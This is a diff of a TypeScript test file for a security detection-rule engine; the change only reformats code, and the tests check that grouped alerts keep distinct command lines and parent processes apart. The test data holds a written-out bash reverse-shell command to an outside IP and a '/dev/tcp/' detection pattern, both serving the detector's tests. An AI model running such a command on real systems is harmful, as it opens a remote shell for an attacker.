@@ -3,7 +3,9 @@ import { ruleSet, processRule, collect } from './test/helpers.js';
 import { distinctPart } from './dedupe.js';
 
 const rule = processRule('  s:\n    CommandLine|contains: /dev/tcp/\n  condition: s').replace('detection:', 'vigil: {group_by: [Image, User]}\ndetection:');
-const bash = (cmd: string, extra: Record<string, unknown> = {}) => ({ processStart: { pid: 9, ppid: 1, exe: '/usr/bin/bash', argv: ['bash', '-c', cmd], user: 'www-data', parentExe: '/usr/sbin/apache2', ...extra } });
+const bash = (cmd: string, extra: Record<string, unknown> = {}) => ({
+  processStart: { pid: 9, ppid: 1, exe: '/usr/bin/bash', argv: ['bash', '-c', cmd], user: 'www-data', parentExe: '/usr/sbin/apache2', ...extra },
+});
 
 describe('dedupe keys never hide a new command line, destination or parent', () => {
   it('a rule grouped by [Image, User] still separates command lines and parents, and shows them in the group', () => {
@@ -16,7 +18,12 @@ describe('dedupe keys never hide a new command line, destination or parent', () 
     ]);
     expect(ms.length).toBe(4);
     expect(new Set(ms.map((m) => m.groupKey)).size).toBe(3); // argv[0] spelled differently is the same command
-    expect(ms[1]!.group).toEqual({ Image: '/usr/bin/bash', User: 'www-data', CommandLine: 'bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1', ParentImage: '/usr/sbin/apache2' });
+    expect(ms[1]!.group).toEqual({
+      Image: '/usr/bin/bash',
+      User: 'www-data',
+      CommandLine: 'bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
+      ParentImage: '/usr/sbin/apache2',
+    });
     expect(ms[1]!.groupKey).not.toBe(ms[0]!.groupKey);
     expect(ms[3]!.groupKey).not.toBe(ms[1]!.groupKey);
   });
